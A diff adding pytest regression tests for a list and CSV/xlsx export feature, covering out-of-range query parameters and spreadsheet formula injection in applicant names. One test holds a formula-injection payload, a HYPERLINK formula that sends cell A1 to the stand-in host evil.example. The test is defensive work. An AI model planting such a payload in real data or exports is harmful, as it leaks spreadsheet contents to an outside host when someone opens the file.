@@ -71,7 +71,10 @@ def _page(db: Any, query: str) -> tuple[list[str], int]:
      ("page=-1", "page"), ("sort=n", "sort"), ("sort=nope", "sort"), ("format=pdf", "format"),
      ("status=paid", "status"), ("at_from=2026-02-30", "at_from"), ("at=2026-01-01", "at"),
      ("amount=5", "amount"), ("bogus=1", "bogus"), ("page=1&page=2", "page"),
-     ("name=" + "x" * 201, "name")],
+     ("name=" + "x" * 201, "name"),
+     # each of these was a 500 (an OFFSET or a time out of range), not a 422
+     ("page=" + "9" * 20, "page"), ("page=١", "page"), ("at_from=0001-01-01", "at_from"),
+     ("at_to=9999-12-31", "at_to")],
 )  # fmt: skip
 def test_every_bad_parameter_is_named(query: str, field: str) -> None:
     with pytest.raises(ValidationError) as refused:
@@ -130,3 +133,20 @@ def test_export_cells_grade_uscc_and_date_in_the_pages_words() -> None:
     en = list(csv.reader(io.StringIO(_csv(view, rows, "en").decode("utf-8-sig"))))
     assert zh[1] == ["关注", "913501********0Y43", "2027-01-01"]  # the CST date
     assert en[0] == ["Grade", "Identifier", "Submitted"] and en[1][0] == "Special mention"
+
+
+def test_a_name_that_looks_like_a_formula_is_exported_as_text() -> None:
+    """Before: "=HYPERLINK(…)" as an applicant's name reached the CSV bare and became an xlsx
+    formula cell — Excel would run it when the officer opened the export."""
+    view = ListView("f", (ListColumn("name", "Applicant", sortable=False),
+                          ListColumn("amount", "Requested amount", kind="money_minor",
+                                     sortable=False)), "name")  # fmt: skip
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    rows = [{"name": evil, "amount": -150}, {"name": "@SUM(1+1)", "amount": 100}]
+    table = list(csv.reader(io.StringIO(_csv(view, rows, "en").decode("utf-8-sig"))))
+    assert [r[0] for r in table[1:]] == ["'" + evil, "'@SUM(1+1)"]
+    assert table[1][1] == "-1.50"  # a negative amount is a number, not touched
+    sheet = load_workbook(io.BytesIO(_xlsx(view, rows, "en"))).active
+    assert sheet is not None
+    assert (sheet.cell(row=2, column=1).data_type, sheet.cell(row=2, column=1).value) == ("s", evil)
+    assert sheet.cell(row=2, column=2).value == -1.5
